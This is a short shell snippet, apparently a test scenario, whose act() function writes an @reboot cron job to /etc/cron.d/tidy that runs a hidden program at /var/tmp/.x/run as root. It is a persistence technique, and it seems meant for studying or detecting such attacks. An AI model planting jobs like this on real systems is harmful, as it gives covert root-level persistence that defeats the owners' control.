# A shell writes a job that names a hidden program.
prepare() { mkdir -p /etc/cron.d; }
act() { echo '@reboot root /var/tmp/.x/run' >/etc/cron.d/tidy; }
